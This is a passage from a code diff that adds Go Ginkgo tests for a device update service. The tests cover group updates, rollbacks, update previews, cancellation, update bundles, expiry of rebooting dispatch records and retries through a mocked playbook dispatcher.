+			imageSet = models.ImageSet{Account: account, Name: faker.UUIDHyphenated()}
+			db.DB.Create(&imageSet)
+			oldImage = models.Image{
+				Account:    account,
+				ImageSetID: &imageSet.ID,
+				Version:    1,
+				Status:     models.ImageStatusSuccess,
+				Commit:     &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()},
+			}
+			db.DB.Create(&oldImage)
+			latestImage = models.Image{
+				Account:    account,
+				ImageSetID: &imageSet.ID,
+				Version:    2,
+				Status:     models.ImageStatusSuccess,
+				Commit:     &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()},
+			}
+			db.DB.Create(&latestImage)
+			otherImageSet := models.ImageSet{Account: account, Name: faker.UUIDHyphenated()}
+			db.DB.Create(&otherImageSet)
+			otherImage := models.Image{Account: account, ImageSetID: &otherImageSet.ID, Version: 1, Status: models.ImageStatusBuilding, Commit: &models.Commit{Account: account}}
+			db.DB.Create(&otherImage)
+
+			deviceGroup = models.DeviceGroup{Account: account, Name: faker.UUIDHyphenated(), Devices: []models.Device{
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: oldImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: oldImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: latestImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: otherImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated()},
+			}}
+			db.DB.Create(&deviceGroup)
+		})
+		Context("when the commit is not given", func() {
+			It("should update the devices to the latest image of their image set", func() {
+				groupUpdate, err := updateService.CreateDeviceGroupUpdate(&deviceGroup, 0)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(groupUpdate.ID).ToNot(BeZero())
+				Expect(len(groupUpdate.UpdateTransactions)).To(Equal(1))
+				update := groupUpdate.UpdateTransactions[0]
+				Expect(update.CommitID).To(Equal(latestImage.CommitID))
+				Expect(*update.DeviceGroupUpdateID).To(Equal(groupUpdate.ID))
+				Expect(len(update.Devices)).To(Equal(2))
+				Expect(len(update.OldCommits)).To(Equal(1))
+				Expect(update.OldCommits[0].ID).To(Equal(oldImage.CommitID))
+
+				reasons := make(map[string]string)
+				for _, rejectedDevice := range groupUpdate.RejectedDevices {
+					reasons[rejectedDevice.DeviceUUID] = rejectedDevice.Reason
+				}
+				Expect(reasons).To(Equal(map[string]string{
+					deviceGroup.Devices[2].UUID: models.DeviceGroupUpdateRejectedUpToDate,
+					deviceGroup.Devices[3].UUID: models.DeviceGroupUpdateRejectedNoUpdate,
+					deviceGroup.Devices[4].UUID: models.DeviceGroupUpdateRejectedImageUndefined,
+				}))
+
+				savedGroupUpdate, err := updateService.GetDeviceGroupUpdateByID(account, deviceGroup.ID, groupUpdate.ID)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(savedGroupUpdate.Progress.DevicesCount).To(Equal(2))
+				Expect(savedGroupUpdate.Progress.PendingCount).To(Equal(2))
+				Expect(savedGroupUpdate.Progress.RejectedCount).To(Equal(3))
+				Expect(savedGroupUpdate.Progress.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+		})
+		Context("when the commit is given", func() {
+			It("should reject the devices of other image sets", func() {
+				groupUpdate, err := updateService.CreateDeviceGroupUpdate(&deviceGroup, oldImage.CommitID)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(len(groupUpdate.UpdateTransactions)).To(Equal(1))
+				Expect(groupUpdate.UpdateTransactions[0].CommitID).To(Equal(oldImage.CommitID))
+				Expect(len(groupUpdate.UpdateTransactions[0].Devices)).To(Equal(1))
+				Expect(len(groupUpdate.RejectedDevices)).To(Equal(4))
+			})
+		})
+		Context("when the group has no devices", func() {
+			It("should return an error", func() {
+				emptyGroup := models.DeviceGroup{Account: account, Name: faker.UUIDHyphenated()}
+				db.DB.Create(&emptyGroup)
+				_, err := updateService.CreateDeviceGroupUpdate(&emptyGroup, 0)
+				Expect(err).To(MatchError(new(services.DeviceGroupDevicesNotFound)))
+			})
+		})
+	})
+	Describe("Create rollback", func() {
+		var updateService services.UpdateServiceInterface
+		var account string
+		var firstImage, latestImage models.Image
+		var deviceGroup models.DeviceGroup
+		BeforeEach(func() {
+			updateService = services.NewUpdateService(context.Background(), log.WithField("service", "update"))
+			account = faker.UUIDHyphenated()
+			imageSet := models.ImageSet{Account: account, Name: faker.UUIDHyphenated()}
+			db.DB.Create(&imageSet)
+			firstImage = models.Image{
+				Account:    account,
+				ImageSetID: &imageSet.ID,
+				Version:    1,
+				Status:     models.ImageStatusSuccess,
+				Commit:     &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()},
+			}
+			db.DB.Create(&firstImage)
+			failedImage := models.Image{Account: account, ImageSetID: &imageSet.ID, Version: 2, Status: models.ImageStatusError, Commit: &models.Commit{Account: account}}
+			db.DB.Create(&failedImage)
+			latestImage = models.Image{
+				Account:    account,
+				ImageSetID: &imageSet.ID,
+				Version:    3,
+				Status:     models.ImageStatusSuccess,
+				Commit:     &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()},
+			}
+			db.DB.Create(&latestImage)
+
+			deviceGroup = models.DeviceGroup{Account: account, Name: faker.UUIDHyphenated(), Devices: []models.Device{
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: latestImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: latestImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated(), ImageID: firstImage.ID},
+				{Account: account, UUID: faker.UUIDHyphenated()},
+			}}
+			db.DB.Create(&deviceGroup)
+		})
+		Context("when rolling back a device", func() {
+			It("should roll back to the previous successful image", func() {
+				update, err := updateService.CreateDeviceRollback(account, deviceGroup.Devices[0].UUID)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(update.ID).ToNot(BeZero())
+				Expect(update.Kind).To(Equal(models.UpdateKindRollback))
+				Expect(update.CommitID).To(Equal(firstImage.CommitID))
+				Expect(update.Status).To(Equal(models.UpdateStatusCreated))
+				Expect(len(update.Devices)).To(Equal(1))
+				Expect(len(update.OldCommits)).To(Equal(1))
+				Expect(update.OldCommits[0].ID).To(Equal(latestImage.CommitID))
+
+				var device models.Device
+				db.DB.First(&device, deviceGroup.Devices[0].ID)
+				Expect(device.AvailableHash).To(Equal(firstImage.Commit.OSTreeCommit))
+			})
+			It("should return an error when there is no previous image", func() {
+				_, err := updateService.CreateDeviceRollback(account, deviceGroup.Devices[2].UUID)
+				Expect(err).To(MatchError(new(services.RollbackImageNotFound)))
+			})
+			It("should return an error when the device is not found", func() {
+				_, err := updateService.CreateDeviceRollback(account, faker.UUIDHyphenated())
+				Expect(err).To(MatchError(new(services.DeviceNotFoundError)))
+			})
+		})
+		Context("when rolling back a device group", func() {
+			It("should roll back the devices with a previous image", func() {
+				groupRollback, err := updateService.CreateDeviceGroupRollback(&deviceGroup)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(groupRollback.Kind).To(Equal(models.UpdateKindRollback))
+				Expect(len(groupRollback.UpdateTransactions)).To(Equal(1))
+				update := groupRollback.UpdateTransactions[0]
+				Expect(update.Kind).To(Equal(models.UpdateKindRollback))
+				Expect(update.CommitID).To(Equal(firstImage.CommitID))
+				Expect(len(update.Devices)).To(Equal(2))
+				Expect(len(update.OldCommits)).To(Equal(1))
+
+				reasons := make(map[string]string)
+				for _, rejectedDevice := range groupRollback.RejectedDevices {
+					reasons[rejectedDevice.DeviceUUID] = rejectedDevice.Reason
+				}
+				Expect(reasons).To(Equal(map[string]string{
+					deviceGroup.Devices[2].UUID: models.DeviceGroupUpdateRejectedNoRollback,
+					deviceGroup.Devices[3].UUID: models.DeviceGroupUpdateRejectedImageUndefined,
+				}))
+			})
+		})
+	})
+	Describe("Preview update", func() {
+		var updateService services.UpdateServiceInterface
+		var account string
+		var currentImage, latestImage models.Image
+		var devices []models.Device
+		BeforeEach(func() {
+			updateService = services.NewUpdateService(context.Background(), log.WithField("service", "update"))
+			account = faker.UUIDHyphenated()
+			imageSet := models.ImageSet{Account: account, Name: faker.UUIDHyphenated()}
+			db.DB.Create(&imageSet)
+			currentImage = models.Image{
+				Account:    account,
+				ImageSetID: &imageSet.ID,
+				Version:    1,
+				Status:     models.ImageStatusSuccess,
+				Commit: &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated(), InstalledPackages: []models.InstalledPackage{
+					{Name: "vim", Version: "8.0"},
+					{Name: "curl", Version: "7.61"},
+				}},
+			}
+			db.DB.Create(&currentImage)
+			latestImage = models.Image{
+				Account:    account,
+				ImageSetID: &imageSet.ID,
+				Version:    2,
+				Status:     models.ImageStatusSuccess,
+				Commit: &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated(), TarballSize: 1000, InstalledPackages: []models.InstalledPackage{
+					{Name: "vim", Version: "8.0"},
+					{Name: "curl", Version: "7.62"},
+					{Name: "git", Version: "2.27"},
+					{Name: "tmux", Version: "2.7"},
+				}},
+			}
+			db.DB.Create(&latestImage)
+			otherImageSet := models.ImageSet{Account: account, Name: faker.UUIDHyphenated()}
+			db.DB.Create(&otherImageSet)
+			otherImage := models.Image{Account: account, ImageSetID: &otherImageSet.ID, Status: models.ImageStatusSuccess,
+				Commit: &models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()}}
+			db.DB.Create(&otherImage)
+
+			devices = []models.Device{
+				{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated(), Connected: true, CurrentHash: currentImage.Commit.OSTreeCommit},
+				{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated(), Connected: true, CurrentHash: faker.UUIDHyphenated()},
+				{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated(), Connected: true, CurrentHash: latestImage.Commit.OSTreeCommit},
+				{Account: account, UUID: faker.UUIDHyphenated(), CurrentHash: currentImage.Commit.OSTreeCommit},
+				{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated(), Connected: true, CurrentHash: otherImage.Commit.OSTreeCommit},
+			}
+			db.DB.Create(&devices)
+		})
+		It("should preview the update of every device", func() {
+			unknownUUID := faker.UUIDHyphenated()
+			devicesUUID := []string{unknownUUID}
+			for _, device := range devices {
+				devicesUUID = append(devicesUUID, device.UUID)
+			}
+			// the disconnected device is saved with the default connected value
+			db.DB.Model(&devices[3]).Update("connected", false)
+
+			preview, err := updateService.PreviewUpdate(account, latestImage.CommitID, devicesUUID)
+			Expect(err).ToNot(HaveOccurred())
+			Expect(preview.CommitID).To(Equal(latestImage.CommitID))
+			Expect(preview.DevicesCount).To(Equal(6))
+			Expect(preview.UpdatedCount).To(Equal(2))
+			Expect(preview.SkippedCount).To(Equal(4))
+
+			devicePreviews := make(map[string]models.UpdatePreviewDevice)
+			for _, devicePreview := range preview.Devices {
+				devicePreviews[devicePreview.DeviceUUID] = devicePreview
+			}
+			Expect(devicePreviews[unknownUUID].SkipReason).To(Equal(models.UpdatePreviewSkippedNotFound))
+			Expect(devicePreviews[devices[2].UUID].SkipReason).To(Equal(models.DeviceGroupUpdateRejectedUpToDate))
+			Expect(devicePreviews[devices[3].UUID].SkipReason).To(Equal(models.UpdatePreviewSkippedDisconnected))
+			Expect(devicePreviews[devices[4].UUID].SkipReason).To(Equal(models.DeviceGroupUpdateRejectedOtherImageSet))
+
+			deltaPreview := devicePreviews[devices[0].UUID]
+			Expect(deltaPreview.Skipped).To(BeFalse())
+			Expect(deltaPreview.StaticDelta).To(BeTrue())
+			Expect(deltaPreview.CurrentImageID).To(Equal(currentImage.ID))
+			Expect(deltaPreview.PackageDiff).ToNot(BeNil())
+			Expect(len(deltaPreview.PackageDiff.Added)).To(Equal(2))
+			Expect(len(deltaPreview.PackageDiff.Upgraded)).To(Equal(1))
+			Expect(deltaPreview.EstimatedDownloadSize).To(Equal(int64(750)))
+
+			fullPreview := devicePreviews[devices[1].UUID]
+			Expect(fullPreview.Skipped).To(BeFalse())
+			Expect(fullPreview.StaticDelta).To(BeFalse())
+			Expect(fullPreview.PackageDiff).To(BeNil())
+			Expect(fullPreview.EstimatedDownloadSize).To(Equal(int64(1000)))
+
+			Expect(preview.EstimatedDownloadSize).To(Equal(int64(1750)))
+		})
+		It("should return an error when the commit is not found", func() {
+			_, err := updateService.PreviewUpdate(account, currentImage.CommitID+1000, []string{devices[0].UUID})
+			Expect(err).To(MatchError(new(services.CommitNotFound)))
+		})
+	})
+	Describe("Cancel update", func() {
+		var updateService services.UpdateServiceInterface
+		BeforeEach(func() {
+			updateService = services.NewUpdateService(context.Background(), log.WithField("service", "update"))
+		})
+		Context("when the update is being dispatched", func() {
+			It("should cancel the pending dispatch records", func() {
+				update := models.UpdateTransaction{
+					Account: faker.UUIDHyphenated(),
+					Status:  models.UpdateStatusBuilding,
+					DispatchRecords: []models.DispatchRecord{
+						{Status: models.DispatchRecordStatusCreated},
+						{Status: models.DispatchRecordStatusPending},
+					},
+				}
+				db.DB.Create(&update)
+
+				err := updateService.CancelUpdate(&update)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(update.Status).To(Equal(models.UpdateStatusCancelled))
+
+				var savedUpdate models.UpdateTransaction
+				db.DB.Preload("DispatchRecords").First(&savedUpdate, update.ID)
+				Expect(savedUpdate.Status).To(Equal(models.UpdateStatusCancelled))
+				statuses := map[uint]string{}
+				for _, dispatchRecord := range savedUpdate.DispatchRecords {
+					statuses[dispatchRecord.ID] = dispatchRecord.Status
+				}
+				Expect(statuses).To(Equal(map[uint]string{
+					update.DispatchRecords[0].ID: models.DispatchRecordStatusCreated,
+					update.DispatchRecords[1].ID: models.DispatchRecordStatusCancelled,
+				}))
+
+				// the dispatched device finishing doesn't change the status of the update
+				savedUpdate.DispatchRecords[0].Status = models.DispatchRecordStatusComplete
+				Expect(updateService.SetUpdateStatus(&savedUpdate)).To(Succeed())
+				db.DB.First(&savedUpdate, update.ID)
+				Expect(savedUpdate.Status).To(Equal(models.UpdateStatusCancelled))
+			})
+		})
+		Context("when the update is finished", func() {
+			It("should not be cancelled", func() {
+				update := models.UpdateTransaction{Account: faker.UUIDHyphenated(), Status: models.UpdateStatusSuccess}
+				db.DB.Create(&update)
+
+				err := updateService.CancelUpdate(&update)
+				Expect(err).To(MatchError(new(services.UpdateCannotBeCancelled)))
+			})
+		})
+	})
+	Describe("Get update transaction events", func() {
+		var updateService services.UpdateServiceInterface
+		BeforeEach(func() {
+			updateService = services.NewUpdateService(context.Background(), log.WithField("service", "update"))
+		})
+		It("should return the transitions of the update and of its dispatch records", func() {
+			update := models.UpdateTransaction{
+				Account:         faker.UUIDHyphenated(),
+				Status:          models.UpdateStatusBuilding,
+				DispatchRecords: []models.DispatchRecord{{Status: models.DispatchRecordStatusPending}},
+			}
+			db.DB.Create(&update)
+			otherUpdate := models.UpdateTransaction{Account: update.Account, Status: models.UpdateStatusBuilding}
+			db.DB.Create(&otherUpdate)
+
+			err := updateService.CancelUpdate(&update)
+			Expect(err).ToNot(HaveOccurred())
+
+			events, err := updateService.GetUpdateTransactionEvents(&update)
+			Expect(err).ToNot(HaveOccurred())
+			Expect(events).To(HaveLen(4))
+			// the update and its dispatch records are created together
+			Expect([]string{events[0].NewStatus, events[1].NewStatus}).To(ConsistOf(models.UpdateStatusBuilding, models.DispatchRecordStatusPending))
+			Expect(events[0].OldStatus).To(BeEmpty())
+			Expect(events[1].OldStatus).To(BeEmpty())
+			Expect(events[2].ResourceType).To(Equal(models.EventResourceUpdateTransaction))
+			Expect(events[2].OldStatus).To(Equal(models.UpdateStatusBuilding))
+			Expect(events[2].NewStatus).To(Equal(models.UpdateStatusCancelled))
+			Expect(events[3].ResourceType).To(Equal(models.EventResourceDispatchRecord))
+			Expect(events[3].ResourceID).To(Equal(update.DispatchRecords[0].ID))
+			Expect(events[3].OldStatus).To(Equal(models.DispatchRecordStatusPending))
+			Expect(events[3].NewStatus).To(Equal(models.DispatchRecordStatusCancelled))
+		})
+	})
+	Describe("Update bundles", func() {
+		var updateService *services.UpdateService
+		var mockRepoBuilder *mock_services.MockRepoBuilderInterface
+		var mockFilesService *mock_services.MockFilesService
+		var account string
+		var commit, sourceCommit models.Commit
+		BeforeEach(func() {
+			ctrl := gomock.NewController(GinkgoT())
+			mockRepoBuilder = mock_services.NewMockRepoBuilderInterface(ctrl)
+			mockFilesService = mock_services.NewMockFilesService(ctrl)
+			updateService = &services.UpdateService{
+				Service:      services.NewService(context.Background(), log.WithField("service", "update")),
+				RepoBuilder:  mockRepoBuilder,
+				FilesService: mockFilesService,
+			}
+			account = faker.UUIDHyphenated()
+			commit = models.Commit{Account: account, Status: models.ImageStatusSuccess, ImageBuildTarURL: faker.URL()}
+			db.DB.Create(&commit)
+			sourceCommit = models.Commit{Account: account, Status: models.ImageStatusSuccess, ImageBuildTarURL: faker.URL()}
+			db.DB.Create(&sourceCommit)
+		})
+		Context("when the commits are built", func() {
+			It("should create the update bundle", func() {
+				bundle, err := updateService.CreateUpdateBundle(account, commit.ID, []uint{sourceCommit.ID, commit.ID})
+				Expect(err).ToNot(HaveOccurred())
+				Expect(bundle.Status).To(Equal(models.UpdateBundleStatusBuilding))
+
+				savedBundle, err := updateService.GetUpdateBundleByID(account, bundle.ID)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(savedBundle.CommitID).To(Equal(commit.ID))
+				Expect(savedBundle.SourceCommits).To(HaveLen(1))
+				Expect(savedBundle.SourceCommits[0].ID).To(Equal(sourceCommit.ID))
+			})
+		})
+		Context("when a source commit is not built", func() {
+			It("should not create the update bundle", func() {
+				notBuiltCommit := models.Commit{Account: account, Status: models.ImageStatusBuilding}
+				db.DB.Create(&notBuiltCommit)
+
+				_, err := updateService.CreateUpdateBundle(account, commit.ID, []uint{notBuiltCommit.ID})
+				Expect(err).To(MatchError(new(services.UpdateBundleCommitNotBuilt)))
+			})
+		})
+		Context("when a commit belongs to another account", func() {
+			It("should not create the update bundle", func() {
+				_, err := updateService.CreateUpdateBundle(faker.UUIDHyphenated(), commit.ID, nil)
+				Expect(err).To(MatchError(new(services.CommitNotFound)))
+			})
+		})
+		Context("when the build fails", func() {
+			It("should set the update bundle in error", func() {
+				bundle, err := updateService.CreateUpdateBundle(account, commit.ID, []uint{sourceCommit.ID})
+				Expect(err).ToNot(HaveOccurred())
+				mockRepoBuilder.EXPECT().BuildUpdateBundle(gomock.Any()).Return(errors.New("failed to build repo"))
+
+				_, err = updateService.BuildUpdateBundle(bundle.ID)
+				Expect(err).To(HaveOccurred())
+				savedBundle, err := updateService.GetUpdateBundleByID(account, bundle.ID)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(savedBundle.Status).To(Equal(models.UpdateBundleStatusError))
+			})
+		})
+		Context("when the update bundle is built", func() {
+			It("should return its signed URL", func() {
+				bundle := &models.UpdateBundle{
+					Account:  account,
+					CommitID: commit.ID,
+					Status:   models.UpdateBundleStatusSuccess,
+					FilePath: fmt.Sprintf("%s/bundles/update-bundle-1.tar.gz", account),
+					Checksum: "abc123",
+					Size:     1024,
+				}
+				mockFilesService.EXPECT().GetSignedURL(bundle.FilePath, gomock.Any()).Return("https://bucket/bundle?signature", nil)
+
+				download, err := updateService.GetUpdateBundleDownload(bundle)
+				Expect(err).ToNot(HaveOccurred())
+				Expect(download.URL).To(Equal("https://bucket/bundle?signature"))
+				Expect(download.Checksum).To(Equal(bundle.Checksum))
+				Expect(download.Size).To(Equal(bundle.Size))
+				Expect(download.ExpiresAt.Time).To(BeTemporally(">", time.Now()))
+			})
+			It("should not be downloaded before it is built", func() {
+				_, err := updateService.GetUpdateBundleDownload(&models.UpdateBundle{Status: models.UpdateBundleStatusBuilding})
+				Expect(err).To(MatchError(new(services.UpdateBundleNotReady)))
+			})
+		})
+	})
+	Describe("Expire rebooting dispatch records", func() {
+		var updateService services.UpdateServiceInterface
+		BeforeEach(func() {
+			updateService = services.NewUpdateService(context.Background(), log.WithField("service", "update"))
+		})
+		It("should set to error the dispatch records past their reboot deadline", func() {
+			account := faker.UUIDHyphenated()
+			commit := models.Commit{Account: account, OSTreeCommit: faker.UUIDHyphenated()}
+			db.DB.Create(&commit)
+			update := models.UpdateTransaction{
+				Account:  account,
+				CommitID: commit.ID,
+				Status:   models.UpdateStatusBuilding,
+				DispatchRecords: []models.DispatchRecord{
+					{
+						Status:         models.DispatchRecordStatusRebooting,
+						RebootDeadline: models.EdgeAPITime{Time: time.Now().Add(-time.Minute), Valid: true},
+					},
+					{
+						Status:         models.DispatchRecordStatusRebooting,
+						RebootDeadline: models.EdgeAPITime{Time: time.Now().Add(time.Hour), Valid: true},
+					},
+				},
+			}
+			db.DB.Create(&update)
+
+			err := updateService.ExpireRebootingDispatchRecords()
+			Expect(err).ToNot(HaveOccurred())
+
+			var savedUpdate models.UpdateTransaction
+			db.DB.Preload("DispatchRecords").First(&savedUpdate, update.ID)
+			statuses := map[uint]string{}
+			for _, dispatchRecord := range savedUpdate.DispatchRecords {
+				statuses[dispatchRecord.ID] = dispatchRecord.Status
+			}
+			Expect(statuses).To(Equal(map[uint]string{
+				update.DispatchRecords[0].ID: models.DispatchRecordStatusError,
+				update.DispatchRecords[1].ID: models.DispatchRecordStatusRebooting,
+			}))
+			Expect(savedUpdate.Status).To(Equal(models.UpdateStatusError))
+		})
+	})
+	Describe("Retry update", func() {
+		var updateService services.UpdateServiceInterface
+		var mockPlaybookClient *mock_playbookdispatcher.MockClientInterface
+		BeforeEach(func() {
+			ctrl := gomock.NewController(GinkgoT())
+			mockPlaybookClient = mock_playbookdispatcher.NewMockClientInterface(ctrl)
+			updateService = &services.UpdateService{
+				Service:        services.NewService(context.Background(), log.WithField("service", "update")),
+				PlaybookClient: mockPlaybookClient,
+			}
+		})
+		Context("when a device failed", func() {
+			It("should dispatch the update again to the failed device", func() {
+				account := faker.UUIDHyphenated()
+				device := models.Device{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated()}
+				db.DB.Create(&device)
+				failedDispatcherID := faker.UUIDHyphenated()
+				update := models.UpdateTransaction{
+					Account: account,
+					Status:  models.UpdateStatusError,
+					Repo:    &models.Repo{Status: models.RepoStatusSuccess},
+					DispatchRecords: []models.DispatchRecord{
+						{Status: models.DispatchRecordStatusComplete, Attempts: 1},
+						{Status: models.DispatchRecordStatusError, Attempts: 1, Device: &device, PlaybookDispatcherID: failedDispatcherID},
+					},
+				}
+				db.DB.Create(&update)
+				newDispatcherID := faker.UUIDHyphenated()
+				mockPlaybookClient.EXPECT().ExecuteDispatcher([]playbookdispatcher.DispatcherPayload{{
+					Recipient: device.RHCClientID,
+					Account:   account,
+				}}).Return([]playbookdispatcher.Response{
+					{StatusCode: http.StatusCreated, PlaybookDispatcherID: newDispatcherID},
+				}, nil)
+
+				err := updateService.RetryUpdate(&update)
+				Expect(err).ToNot(HaveOccurred())
+
+				var dispatchRecord models.DispatchRecord
+				db.DB.Preload("AttemptHistory").First(&dispatchRecord, update.DispatchRecords[1].ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusCreated))
+				Expect(dispatchRecord.PlaybookDispatcherID).To(Equal(newDispatcherID))
+				Expect(dispatchRecord.Attempts).To(Equal(2))
+				Expect(len(dispatchRecord.AttemptHistory)).To(Equal(1))
+				Expect(dispatchRecord.AttemptHistory[0].Attempt).To(Equal(1))
+				Expect(dispatchRecord.AttemptHistory[0].Status).To(Equal(models.DispatchRecordStatusError))
+				Expect(dispatchRecord.AttemptHistory[0].PlaybookDispatcherID).To(Equal(failedDispatcherID))
+
+				var savedUpdate models.UpdateTransaction
+				db.DB.First(&savedUpdate, update.ID)
+				Expect(savedUpdate.Status).To(Equal(models.UpdateStatusBuilding))
+			})
+		})
+		Context("when many devices failed", func() {
+			var batchSize int
+			BeforeEach(func() {
+				batchSize = config.Get().PlaybookDispatcherConfig.BatchSize
+				config.Get().PlaybookDispatcherConfig.BatchSize = 2
+			})
+			AfterEach(func() {
+				config.Get().PlaybookDispatcherConfig.BatchSize = batchSize
+			})
+			It("should dispatch the devices in batches and set the status of every device", func() {
+				account := faker.UUIDHyphenated()
+				update := models.UpdateTransaction{
+					Account: account,
+					Status:  models.UpdateStatusError,
+					Repo:    &models.Repo{Status: models.RepoStatusSuccess},
+				}
+				for i := 0; i < 3; i++ {
+					device := models.Device{Account: account, UUID: faker.UUIDHyphenated(), RHCClientID: faker.UUIDHyphenated()}
+					db.DB.Create(&device)
+					update.DispatchRecords = append(update.DispatchRecords, models.DispatchRecord{Status: models.DispatchRecordStatusError, Attempts: 1, Device: &device})
+				}
+				db.DB.Create(&update)
+				dispatcherID := faker.UUIDHyphenated()
+				gomock.InOrder(
+					mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Len(2)).Return([]playbookdispatcher.Response{
+						{StatusCode: http.StatusCreated, PlaybookDispatcherID: dispatcherID},
+						{StatusCode: http.StatusNotFound},
+					}, nil),
+					mockPlaybookClient.EXPECT().ExecuteDispatcher(gomock.Len(1)).Return(nil, errors.New("playbook dispatcher is unavailable")),
+				)
+
+				err := updateService.RetryUpdate(&update)
+				Expect(err).ToNot(HaveOccurred())
+
+				var dispatchRecords []models.DispatchRecord
+				for _, record := range update.DispatchRecords {
+					var dispatchRecord models.DispatchRecord
+					db.DB.Preload("Device").First(&dispatchRecord, record.ID)
+					dispatchRecords = append(dispatchRecords, dispatchRecord)
+				}
+				Expect(dispatchRecords[0].Status).To(Equal(models.DispatchRecordStatusCreated))
+				Expect(dispatchRecords[0].PlaybookDispatcherID).To(Equal(dispatcherID))
+				Expect(dispatchRecords[0].Device.Connected).To(BeTrue())
+				Expect(dispatchRecords[1].Status).To(Equal(models.DispatchRecordStatusError))
+				Expect(dispatchRecords[1].Device.Connected).To(BeFalse())
+				Expect(dispatchRecords[2].Status).To(Equal(models.DispatchRecordStatusError))
+				Expect(dispatchRecords[2].Attempts).To(Equal(2))
+
+				var savedUpdate models.UpdateTransaction
+				db.DB.First(&savedUpdate, update.ID)
+				Expect(savedUpdate.Status).To(Equal(models.UpdateStatusError))
+			})
+		})
+		Context("when no device failed", func() {
+			It("should return an error", func() {
+				update := models.UpdateTransaction{
+					Account:         faker.UUIDHyphenated(),
+					Status:          models.UpdateStatusSuccess,
+					Repo:            &models.Repo{Status: models.RepoStatusSuccess},
+					DispatchRecords: []models.DispatchRecord{{Status: models.DispatchRecordStatusComplete}},
+				}
+				db.DB.Create(&update)
+
+				err := updateService.RetryUpdate(&update)
+				Expect(err).To(MatchError(new(services.UpdateHasNoFailedDevices)))
+			})
+		})
+		Context("when the account reached its limit of rollouts", func() {
+			var rolloutsPerAccount int
+			BeforeEach(func() {
+				rolloutsPerAccount = config.Get().RolloutsPerAccount
+				config.Get().RolloutsPerAccount = 1
+			})
+			AfterEach(func() {
+				config.Get().RolloutsPerAccount = rolloutsPerAccount
+			})
+			It("should not dispatch the update again", func() {
+				account := faker.UUIDHyphenated()
+				rollingOut := models.UpdateTransaction{Account: account, Status: models.UpdateStatusBuilding}
+				db.DB.Create(&rollingOut)
+				Expect(db.DB.Create(&models.ConcurrencySlot{Scope: "rollouts/" + account, Slot: 0,
+					HolderType: models.ConcurrencySlotHolderUpdateTransaction, HolderID: rollingOut.ID}).Error).ToNot(HaveOccurred())
+				update := models.UpdateTransaction{
+					Account:         account,
+					Status:          models.UpdateStatusError,
+					Repo:            &models.Repo{Status: models.RepoStatusSuccess},
+					DispatchRecords: []models.DispatchRecord{{Status: models.DispatchRecordStatusError, Attempts: 1}},
+				}
+				db.DB.Create(&update)
+
+				err := updateService.RetryUpdate(&update)
+				Expect(err).To(MatchError(new(services.UpdateRolloutLimitReached)))
+				var dispatchRecord models.DispatchRecord
+				db.DB.First(&dispatchRecord, update.DispatchRecords[0].ID)
+				Expect(dispatchRecord.Status).To(Equal(models.DispatchRecordStatusError))
+				var savedUpdate models.UpdateTransaction
+				db.DB.First(&savedUpdate, update.ID)
+				Expect(savedUpdate.Status).To(Equal(models.UpdateStatusError))
+			})
+		})
+		Context("when the update repo is not built", func() {
+			It("should return an error", func() {
+				update := models.UpdateTransaction{
+					Account: faker.UUIDHyphenated(),
+					Status:  models.UpdateStatusError,
+					Repo:    &models.Repo{Status: models.RepoStatusError},
+				}
+				db.DB.Create(&update)
+
+				err := updateService.RetryUpdate(&update)
+				Expect(err).To(MatchError(new(services.UpdateCannotBeRetried)))
+			})
+		})
+	})
 })